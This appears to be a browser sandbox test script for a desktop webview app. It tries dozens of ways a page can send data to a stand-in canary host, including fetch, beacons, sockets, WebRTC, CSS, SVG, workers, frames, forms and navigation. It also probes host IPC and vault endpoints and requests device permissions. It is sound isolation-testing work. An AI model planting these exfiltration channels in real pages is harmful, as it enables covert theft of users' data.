// Tries every way of a page to send a byte to another place. `CANARY` is that place: a host and port where the test counts what arrives.
// Each attempt asks for a path of its own name, so that what arrived names the way it took. One comes after the other, and what the engine then
// says of it (a violated directive, an error) is written beside it as what stopped it. #state ends as "done".
(function () {
	'use strict';

	var HTTP = 'http://' + CANARY + '/';
	var stage = document.getElementById('stage');

	// How long an attempt has the word, in milliseconds.
	var TURN = 90;
	var now = '';

	function report(name, text) {
		var line = document.createElement('li');
		line.id = 'try-' + name;
		line.textContent = name + ': ' + text;
		document.getElementById('results').append(line);
	}

	function stopped(name, by) {
		var line = document.getElementById('try-' + name);
		if (line && !(line.dataset.stopped || '').split('; ').includes(by))
			line.dataset.stopped = line.dataset.stopped ? line.dataset.stopped + '; ' + by : by;
	}

	// What this engine has not was switched off in it, or never built.
	function error(e) {
		return e instanceof ReferenceError || (e instanceof TypeError && /undefined is not|is not a constructor|not an object/.test(e.message)) ? 'not in this engine' : e.name;
	}

	function fails(promise) {
		var name = now;
		promise.catch(function (e) { stopped(name, error(e)); });
	}

	// The address says which attempt it was, where the engine tells it whole.
	function listen(page) {
		page.addEventListener('securitypolicyviolation', function (event) {
			var path = /^https?:\/\/[^/]+\/([a-z-]+?)(-fetch|-image|-img)?$/.exec(event.blockedURI || '');
			stopped(path && attempts[path[1]] ? path[1] : now, 'policy: ' + event.effectiveDirective);
		});
	}
	listen(document);

	function element(tag, attributes, text, parent) {
		var made = document.createElement(tag);
		for (var name in attributes)
			made.setAttribute(name, attributes[name]);
		if (text)
			made.textContent = text;
		(parent || stage).append(made);
		return made;
	}

	function svg(markup) {
		var box = document.createElement('div');
		box.innerHTML = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">' + markup + '</svg>';
		stage.append(box);
	}

	function link(rel, name, more) {
		return element('link', Object.assign({ rel: rel, href: HTTP + name }, more), '', document.head);
	}

	function style(name, text) {
		element('style', {}, text.replace('CANARY', HTTP + name), document.head);
		var tried = element('i', { class: name }, '.');
		tried.className = name;
	}

	function blob(text, type) {
		return URL.createObjectURL(new Blob([text], { type: type }));
	}

	var INSIDE = '<script>fetch("' + HTTP + 'PLACE-fetch").catch(function(){});new Image().src="' + HTTP + 'PLACE-image"</' + 'script><img src="' + HTTP + 'PLACE-img">';

	var attempts = {
		'fetch': function () { fails(fetch(HTTP + 'fetch', { mode: 'no-cors' })); },
		'fetch-keepalive': function () { fails(fetch(HTTP + 'fetch-keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })); },
		'xhr': function () { var r = new XMLHttpRequest(); r.open('GET', HTTP + 'xhr'); r.send(); },
		'websocket': function () { new WebSocket('ws://' + CANARY + '/websocket'); },
		'eventsource': function () { new EventSource(HTTP + 'eventsource'); },
		'beacon': function () { navigator.sendBeacon(HTTP + 'beacon', 'x'); },
		'webtransport': function () { fails(new WebTransport('https://' + CANARY + '/webtransport').ready); },
		'webrtc': function () {
			var peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + CANARY }] });
			peer.createDataChannel('x');
			peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); });
		},
		'image': function () { new Image().src = HTTP + 'image'; },
		'srcset': function () { element('img', { srcset: HTTP + 'srcset 1x' }); },
		'input-image': function () { element('input', { type: 'image', src: HTTP + 'input-image' }); },
		'body-background': function () { document.body.setAttribute('background', HTTP + 'body-background'); },
		'video': function () { element('video', { src: HTTP + 'video', preload: 'auto', autoplay: '', muted: '' }).load(); },
		'video-poster': function () { element('video', { poster: HTTP + 'video-poster' }); },
		'audio': function () { element('audio', { src: HTTP + 'audio', preload: 'auto', autoplay: '' }).load(); },
		'object': function () { element('object', { data: HTTP + 'object', type: 'text/html' }); },
		'embed': function () { element('embed', { src: HTTP + 'embed', type: 'text/html' }); },
		'iframe': function () { element('iframe', { src: HTTP + 'iframe' }); },
		'script': function () { element('script', { src: HTTP + 'script' }); },
		'module': function () { element('script', { src: HTTP + 'module', type: 'module' }); },
		'import': function () { fails(import(HTTP + 'import')); },
		'stylesheet': function () { link('stylesheet', 'stylesheet'); },
		'css-import': function () { style('css-import', '@import url(CANARY);'); },
		'css-url': function () { style('css-url', '.css-url{background:url(CANARY)}'); },
		'css-content': function () { style('css-content', '.css-content::before{content:url(CANARY)}'); },
		'css-cursor': function () { style('css-cursor', '.css-cursor{cursor:url(CANARY),auto}'); },
		'css-mask': function () { style('css-mask', '.css-mask{mask-image:url(CANARY);-webkit-mask-image:url(CANARY)}'); },
		'css-font': function () { style('css-font', '@font-face{font-family:leak;src:url(CANARY)} .css-font{font-family:leak}'); },
		'font': function () { fails(new FontFace('leak2', 'url(' + HTTP + 'font)').load()); },
		'prefetch': function () { link('prefetch', 'prefetch'); },
		'preload': function () { link('preload', 'preload', { as: 'image' }); },
		'modulepreload': function () { link('modulepreload', 'modulepreload'); },
		'preconnect': function () { link('preconnect', 'preconnect'); },
		'dns-prefetch': function () { link('dns-prefetch', 'dns-prefetch'); },
		'prerender': function () { link('prerender', 'prerender'); },
		'icon': function () { link('icon', 'icon'); },
		'manifest': function () { link('manifest', 'manifest'); },
		'speculation': function () { element('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [HTTP + 'speculation'] }] })); },
		'ping': function () { element('a', { href: '#here', ping: HTTP + 'ping' }, 'x').click(); },
		'svg-image': function () { svg('<image href="' + HTTP + 'svg-image" width="9" height="9"/>'); },
		'svg-use': function () { svg('<use xlink:href="' + HTTP + 'svg-use#a"/>'); },
		'svg-filter': function () { svg('<filter id="f"><feImage href="' + HTTP + 'svg-filter"/></filter><rect width="9" height="9" filter="url(#f)"/>'); },
		'svg-inside-image': function () { new Image().src = blob('<svg xmlns="http://www.w3.org/2000/svg"><image href="' + HTTP + 'svg-inside-image"/></svg>', 'image/svg+xml'); },
		'worker': function () { new Worker(HTTP + 'worker'); },
		'worker-blob': function () { new Worker(blob('fetch("' + HTTP + 'worker-blob").catch(function(){});importScripts("' + HTTP + 'worker-import")', 'text/javascript')); },
		'shared-worker': function () { new SharedWorker(blob('fetch("' + HTTP + 'shared-worker")', 'text/javascript')); },
		'service-worker': function () { fails(navigator.serviceWorker.register('/leak.js').then(function () { report('service-worker-registered', 'yes'); })); },
		'data-frame': function () { element('iframe', { src: 'data:text/html,' + encodeURIComponent(INSIDE.replace(/PLACE/g, 'data-frame')) }); },
		'blob-frame': function () { element('iframe', { src: blob(INSIDE.replace(/PLACE/g, 'blob-frame'), 'text/html') }); },
		'srcdoc-frame': function () {
			var frame = element('iframe', { srcdoc: INSIDE.replace(/PLACE/g, 'srcdoc-frame') });
			frame.onload = function () {
				listen(frame.contentDocument);
				new frame.contentWindow.Image().src = HTTP + 'srcdoc-frame-image';
			};
		},
		'about-frame': function () {
			var page = element('iframe', {}).contentDocument;
			page.open();
			listen(page);
			page.write(INSIDE.replace(/PLACE/g, 'about-frame'));
		},
		'script-frame': function () { element('iframe', { src: 'javascript:fetch("' + HTTP + 'script-frame")' }); },
		'form-get': function () { form('form-get', 'get', '_self'); },
		'form-post': function () { form('form-post', 'post', '_self'); },
		'form-blank': function () { form('form-blank', 'post', '_blank'); },
		'form-top': function () { form('form-top', 'post', '_top'); },
		'popup': function () { var opened = window.open(HTTP + 'popup'); report('popup-opened', String(!!opened)); if (!opened) stopped('popup', 'no window was opened'); },
		'popup-blank': function () { var opened = window.open('about:blank'); if (opened) opened.location = HTTP + 'popup-blank'; else stopped('popup-blank', 'no window was opened'); },
		'anchor-blank': function () { element('a', { href: HTTP + 'anchor-blank', target: '_blank' }, 'x').click(); },
		'anchor-top': function () { element('a', { href: HTTP + 'anchor-top', target: '_top' }, 'x').click(); },
		'download': function () { element('a', { href: HTTP + 'download', download: 'x' }, 'x').click(); },
		'top': function () { window.top.location = HTTP + 'top'; },
		'parent': function () { window.parent.location.replace(HTTP + 'parent'); },
		'protocol': function () { navigator.registerProtocolHandler('web+leak', HTTP + 'protocol?%s'); },
		'host-scheme': function () { fails(fetch('tauri://localhost/index.html').then(function (a) { report('host-scheme-read', String(a.status)); })); },
		'host-ipc': function () { fails(fetch('ipc://localhost/vault_status', { method: 'POST' }).then(function (a) { report('host-ipc-read', String(a.status)); })); },
		// The port of a package is the gateway's; on a server of its own the app would ask itself.
		'gateway': function () { if (location.hostname.endsWith('.localhost')) fails(fetch('http://127.0.0.1:' + location.port + '/v1/records').then(function (a) { report('gateway-read', String(a.status)); })); }
	};

	function form(name, method, target) {
		var made = element('form', { action: HTTP + name, method: method, target: target });
		element('input', { name: 'secret', value: 'x' }, '', made);
		made.submit();
	}

	// What the person is asked for on other pages: an answer other than no would be a line "… given".
	function permissions() {
		function no(name) { return function (e) { report(name, 'refused'); stopped(name, (e && (e.name || e.message)) || 'refused'); }; }
		function yes(name) { return function () { report(name, 'given'); }; }
		var all = {
			'camera': function () { return navigator.mediaDevices.getUserMedia({ video: true }); },
			'microphone': function () { return navigator.mediaDevices.getUserMedia({ audio: true }); },
			'screen': function () { return navigator.mediaDevices.getDisplayMedia({ video: true }); },
			'location': function () { return new Promise(function (resolve, reject) { navigator.geolocation.getCurrentPosition(resolve, reject); }); },
			'clipboard-read': function () { return navigator.clipboard.readText(); },
			'clipboard-write': function () { return navigator.clipboard.writeText('leak'); },
			'notifications': function () { return Notification.requestPermission().then(function (said) { if (said !== 'granted') throw new Error(said); }); },
			'storage-access': function () { return navigator.storage.persist().then(function (said) { if (!said) throw new Error('no'); }); }
		};
		Object.keys(all).forEach(function (name) {
			try {
				all[name]().then(yes('ask-' + name), no('ask-' + name));
			} catch (e) {
				no('ask-' + name)({ name: error(e) });
			}
		});
	}

	// What another app kept: this page may load twice, and then finds its own.
	function kept() {
		var found = [];
		try { var before = localStorage.getItem('leak'); if (before && before !== location.origin) found.push('localStorage of ' + before); localStorage.setItem('leak', location.origin); } catch (e) { /* none */ }
		try { document.cookie = 'leak=1; path=/'; if (document.cookie) found.push('cookie'); } catch (e) { /* none */ }
		document.getElementById('state').dataset.kept = found.join(' ');
	}

	document.getElementById('do-leave').addEventListener('click', function () {
		// A policy of its own forbids what comes after it, so it stands at the end.
		element('meta', { 'http-equiv': 'Content-Security-Policy', content: "img-src 'none'; report-uri " + HTTP + 'policy-report' }, '', document.head);
		new Image().src = HTTP + 'after-policy';
		element('meta', { 'http-equiv': 'refresh', content: '0;url=' + HTTP + 'meta-refresh' }, '', document.head);
		setTimeout(function () { location.href = HTTP + 'location'; }, 700);
	});

	function attempt(name) {
		now = name;
		report(name, 'tried');
		try {
			attempts[name]();
		} catch (e) {
			stopped(name, error(e));
		}
	}

	kept();
	var names = Object.keys(attempts);
	names.forEach(function (name, turn) { setTimeout(attempt, turn * TURN, name); });
	setTimeout(permissions, names.length * TURN);
	setTimeout(function () { document.getElementById('state').textContent = 'done'; }, names.length * TURN + 4000);
})();
